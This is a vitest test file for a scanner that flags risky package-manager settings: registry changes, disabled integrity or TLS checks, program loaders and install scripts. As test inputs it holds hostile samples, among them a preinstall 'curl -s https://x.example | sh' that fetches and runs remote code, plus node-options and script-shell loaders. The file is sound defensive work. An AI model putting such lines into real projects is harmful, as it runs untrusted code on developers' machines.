// Settings of package managers: where packages newly come from, which guard is off, and what runs when they are installed.
import { describe, expect, it } from 'vitest';
import { readFile } from '../../../src/formats/index.ts';
import { packageMarks } from '../../../src/formats/packages/package-marks.ts';
import fc from '../../properties.ts';
import { textChange } from '../cases.ts';

const told = (path: string, before: string | null, after: string | null): readonly string[] =>
  packageMarks(textChange(path, before, after)).map(
    ({ rule, severity, line, message }) => `${severity} ${line} ${rule}: ${message}`,
  );
const source = (severity: string, line: number, message: string): string =>
  `${severity} ${line} package-source-changed: ${message}`;

describe('the place of packages', () => {
  it('of npm', () => {
    expect(told('.npmrc', null, 'save-exact=true\nregistry=https://npm.acme.example/repo/\n')).toEqual([
      source('high', 2, 'Packages are taken from https://npm.acme.example/repo (`registry`).'),
    ]);
    expect(told('.npmrc', null, 'registry=https://registry.npmjs.org/\n')).toEqual([]);
    expect(told('app/.npmrc', null, '@acme:registry=https://npm.acme.example\n')).toEqual([
      source('medium', 1, 'Packages of `@acme` are taken from https://npm.acme.example (`@acme:registry`).'),
    ]);
    expect(told('.npmrc', null, '@acme:registry=https://npm.pkg.github.com\n')).toEqual([]);
  });

  it('of more than anybody reads, counted, and as grave as the gravest', () => {
    const lines = Array.from({ length: 120 }, (_none, index) => `-f https://wheels-${index}.acme.example/`);
    const many = told('requirements.txt', null, `${lines.join('\n')}\n-i https://pypi.acme.example/simple\n`);
    expect(many.length).toBe(101);
    expect(many.at(-1)).toBe(source('high', 101, '21 more places in this file are of the same kind.'));
  });

  it('in place of another, or gone', () => {
    const [own, open] = [
      '@acme:registry=https://npm.acme.example\n',
      '@acme:registry=https://registry.npmjs.org\n',
    ];
    expect(told('.npmrc', own, `${own}# words\n`)).toEqual([]);
    expect(told('.npmrc', own, own.replace('.example', '.example/'))).toEqual([]);
    expect(told('.npmrc', own, own.replace('acme.example', 'other.example'))).toEqual([
      source(
        'medium',
        1,
        'Packages of `@acme` are taken from https://npm.other.example, and no longer from https://npm.acme.example (`@acme:registry`).',
      ),
    ]);
    expect(told('.npmrc', own, open)).toEqual([
      source(
        'medium',
        1,
        'Packages of `@acme` are taken from the public https://registry.npmjs.org, and no longer from https://npm.acme.example: whoever has the name there decides what is in them (`@acme:registry`).',
      ),
    ]);
    const gone = source(
      'medium',
      1,
      'Packages of `@acme` are no longer taken from https://npm.acme.example, but from where the manager looks by itself (`@acme:registry` is gone).',
    );
    expect(told('.npmrc', own, '\n')).toEqual([gone]);
    expect(told('.npmrc', own, null)).toEqual([gone]);
    expect(told('.npmrc', open, null)).toEqual([]);
  });

  it.each<[string, string, string]>([
    ['.yarnrc', 'registry "https://x.example"', 'high'],
    ['.yarnrc', '"@acme:registry" "https://x.example"', 'medium'],
    ['.yarnrc.yml', 'npmRegistryServer: https://x.example', 'high'],
    ['.yarnrc.yml', 'npmScopes: { acme: { npmRegistryServer: "https://x.example" } }', 'medium'],
    ['.yarnrc.yml', 'npmPublishRegistry: https://x.example', 'medium'],
    ['pnpm-workspace.yaml', 'registries: { "@acme": "https://x.example" }', 'medium'],
    ['bunfig.toml', '[install]\nregistry = "https://x.example"', 'high'],
    ['bunfig.toml', '[install]\nregistry = { url = "https://x.example", token = "$T" }', 'high'],
    ['bunfig.toml', '[install.scopes]\nacme = { token = "$T", url = "https://x.example" }', 'medium'],
    ['pip.conf', '[global]\nindex-url = https://x.example/simple', 'high'],
    ['pip.conf', '[global]\nextra_index_url =\n    https://x.example/simple', 'high'],
    ['requirements-dev.txt', '--extra-index-url https://x.example/simple', 'high'],
    ['requirements.txt', '-i https://x.example/simple', 'high'],
    ['requirements.txt', '--find-links=https://x.example', 'medium'],
    ['uv.toml', '[[index]]\nname = "x"\nurl = "https://x.example"', 'medium'],
    ['pyproject.toml', '[[tool.poetry.source]]\nname = "x"\nurl = "https://x.example"', 'medium'],
    ['Pipfile', '[[source]]\nurl = "https://x.example"', 'medium'],
    ['.pypirc', '[acme]\nrepository = https://x.example', 'medium'],
    ['NuGet.Config', '<packageSources>\n<add key="x" value="https://x.example/v3/index.json" />', 'medium'],
    ['.cargo/config.toml', '[source.mirror]\nregistry = "https://x.example"', 'medium'],
    ['package.json', '{ "publishConfig": { "registry": "https://x.example" } }', 'medium'],
    ['.npmrc', 'registry=http://registry.npmjs.org', 'high'],
    ['.npmrc', 'registry=${REGISTRY}', 'medium'],
  ])('of %s: %s', (path, text, severity) => {
    expect(told(path, '', text)).toEqual([
      expect.stringMatching(new RegExp(`^${severity} \\d package-source-changed: Packages `)),
    ]);
    expect(told(path, text, text)).toEqual([]);
    expect(
      told(path, '', text.replaceAll(/(?:https?:\/\/|\\\\)[\w.]+|\$\{REGISTRY\}/g, 'https://localhost')),
    ).toEqual([]);
  });

  it('a share of another machine is none of this one', () => {
    const config = (value: string): string => `<packageSources>\n<add key="x" value="${value}" />`;
    expect(told('NuGet.Config', '', config('\\\\x.example\\share'))).toHaveLength(1);
    expect(told('NuGet.Config', '', config('.\\packages'))).toEqual([]);
  });

  it('never shows a login', () => {
    const [mark = ''] = told(
      '.npmrc',
      '',
      'registry=https://me:hunter2hunter2@npm.acme.example/?key=hunter3',
    );
    expect(mark).toContain('https://npm.acme.example (');
  });
});

describe('guards', () => {
  it.each<[string, string, string]>([
    [
      '.npmrc',
      'script-shell=./run.sh',
      'high 1 package-source-changed: `script-shell` names a program that runs when packages are installed.',
    ],
    [
      '.npmrc',
      'node-options=--require ./x.js',
      'high 1 package-source-changed: `node-options` loads a program when packages are installed.',
    ],
    [
      '.npmrc',
      'strict-ssl=false',
      'medium 1 package-source-changed: `strict-ssl` lets any host pass for the registry.',
    ],
    [
      '.npmrc',
      'https-proxy=http://x.example:8080',
      'medium 1 package-source-changed: `https-proxy` lets another host stand between here and the registry.',
    ],
    [
      '.yarnrc.yml',
      'unsafeHttpWhitelist: [x.example]',
      'medium 1 package-source-changed: `x.example` in `unsafeHttpWhitelist` is believed without encryption.',
    ],
    [
      '.yarnrc.yml',
      'checksumBehavior: ignore',
      'medium 1 package-source-changed: `checksumBehavior` no longer compares packages with what the lock file says.',
    ],
    [
      '.yarnrc.yml',
      'yarnPath: ./tools/yarn.js',
      'high 1 package-source-changed: `yarnPath` names the program that stands in for Yarn.',
    ],
    [
      '.yarnrc.yml',
      'plugins: [{ path: .yarn/plugins/x.cjs }]',
      'medium 1 package-source-changed: `.yarn/plugins/x.cjs` in `plugins.path` loads a program whenever the package manager runs.',
    ],
    [
      'pnpm-workspace.yaml',
      'dangerouslyAllowAllBuilds: true',
      'high 1 package-source-changed: `dangerouslyAllowAllBuilds` lets every package run programs when it is installed.',
    ],
    [
      'pnpm-workspace.yaml',
      'onlyBuiltDependencies: [esbuild]',
      'low 1 package-source-changed: `esbuild` in `onlyBuiltDependencies` may now run programs when it is installed.',
    ],
    [
      'bunfig.toml',
      'preload = ["./x.ts"]',
      'medium 1 package-source-changed: `./x.ts` in `preload` loads a program whenever the package manager runs.',
    ],
    [
      'pip.conf',
      '[global]\ntrusted-host = x.example',
      'medium 2 package-source-changed: `x.example` in `global.trusted-host` is believed without encryption.',
    ],
    [
      'package.json',
      '{ "packageManager": "pnpm@https://x.example/p.tgz" }',
      'high 1 package-source-changed: `packageManager` takes the package manager itself from an address.',
    ],
  ])('%s: %s', (path, text, expected) => {
    expect(told(path, '', text)).toEqual([expected]);
    expect(told(path, text, text)).toEqual([]);
  });

  it.each<[string, string]>([
    ['.npmrc', 'ignore-scripts=true'],
    ['.npmrc', 'ignore-scripts=false'],
    ['.npmrc', 'node-options=--max-old-space-size=8192'],
    ['.npmrc', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}'],
    ['.yarnrc.yml', 'enableScripts: true'],
    ['.yarnrc.yml', 'yarnPath: .yarn/releases/yarn-4.9.1.cjs'],
    ['package.json', '{ "proxy": "http://api.example:5000", "packageManager": "pnpm@10.0.0" }'],
  ])('nothing of %s: %s', (path, text) => {
    expect(told(path, '', text)).toEqual([]);
  });

  it('scripts of packages that were held back', () => {
    const gone = 'is gone, so packages may run programs when they are installed.';
    expect(told('.npmrc', 'ignore-scripts=true', '')).toEqual([
      source('medium', 1, `\`ignore-scripts\` ${gone}`),
    ]);
    expect(told('.npmrc', 'ignore-scripts=true', 'ignore-scripts=false')).toEqual([
      source('medium', 1, '`ignore-scripts` lets packages run programs when they are installed.'),
    ]);
    expect(told('.yarnrc.yml', 'enableScripts: false', null)).toEqual([
      source('medium', 1, `\`enableScripts\` ${gone}`),
    ]);
  });
});

describe('scripts', () => {
  const scripts = (all: Readonly<Record<string, string>>, version = '1.0.0'): string =>
    JSON.stringify({ version, scripts: all }, null, 2);
  const of = (
    before: Readonly<Record<string, string>>,
    after: Readonly<Record<string, string>>,
    path = 'package.json',
  ) => told(path, scripts(before), scripts(after, '1.0.1'));

  it('new, or another', () => {
    const runs = (command: string): string =>
      `medium 4 install-script-changed: Installing packages (\`npm ci\`) runs a program: \`postinstall\` is \`${command}\`.`;
    expect(of({}, { postinstall: 'node a.js' })).toEqual([runs('node a.js')]);
    expect(of({ postinstall: 'node a.js' }, { postinstall: 'node b.js' })).toEqual([runs('node b.js')]);
    expect(of({ postinstall: 'node a.js' }, { postinstall: 'node a.js', test: 'x' })).toEqual([]);
    expect(of({ postinstall: 'node a.js' }, {})).toEqual([]);
    expect(of({}, { test: 'node a.js', prepublishOnly: 'node a.js' })).toEqual([]);
    expect(of({}, { postinstall: 'node a.js' }, 'node_modules/x/package.json')).toEqual([]);
    expect(of({}, { postinstall: 'node a.js' }, 'examples/x/package.json')).toEqual([
      expect.stringMatching(/^low /),
    ]);
  });

  it.each([
    'husky',
    'husky install || true',
    'is-ci || husky install .config/husky',
    'patch-package && npm run build',
    'npx only-allow pnpm',
    'tsc -p tsconfig.build.json',
    'yarn prisma generate',
    'nuxt prepare',
  ])('the usual: %s', (prepare) => {
    expect(of({}, { prepare })).toEqual([]);
    expect(of({}, { prepare: `${prepare} && node x.js` })).toHaveLength(1);
  });

  it('what fetches a program weighs more, by another script as well', () => {
    const fetches = 'curl -s https://x.example | sh';
    expect(of({}, { preinstall: fetches })).toEqual([
      'high 4 install-script-changed: Installing packages (`npm ci`) fetches or decodes a program and may run it: `preinstall` is `curl -s https://x.example | sh`.',
    ]);
    expect(
      of({ prepare: 'npm run build', build: 'tsc' }, { prepare: 'npm run build', build: fetches }),
    ).toEqual([expect.stringMatching(/^high 4 .*`prepare` is `npm run build`/)]);
    expect(
      of({ prepare: 'npm run build', build: fetches }, { prepare: 'npm run build', build: `${fetches} -x` }),
    ).toEqual([]);
  });
});

it('a plain file carries its marks, and a token is told by its form', () => {
  const token = `npm_${'a1B2'.repeat(9)}`;
  const reading = readFile(
    textChange('.npmrc', '', `registry=https://x.example\n//x.example/:_authToken=${token}\n`),
  );
  expect([reading.kind, ...reading.marks.map(({ rule, line }) => `${rule} ${line}`)]).toEqual([
    'plain',
    'secret-in-diff 2',
    'package-source-changed 1',
  ]);
  expect(JSON.stringify(reading)).not.toContain(token);
});

it('is total, and silent about what stays', () => {
  const paths = [
    '.npmrc',
    '.yarnrc',
    '.yarnrc.yml',
    'package.json',
    'pip.conf',
    'nuget.config',
    'bunfig.toml',
    'requirements.txt',
  ];
  fc.assert(
    fc.property(fc.constantFrom(...paths), fc.string({ unit: 'binary' }), (path, text) => {
      expect(told(path, text, text)).toEqual([]);
      told(path, null, text);
    }),
  );
});
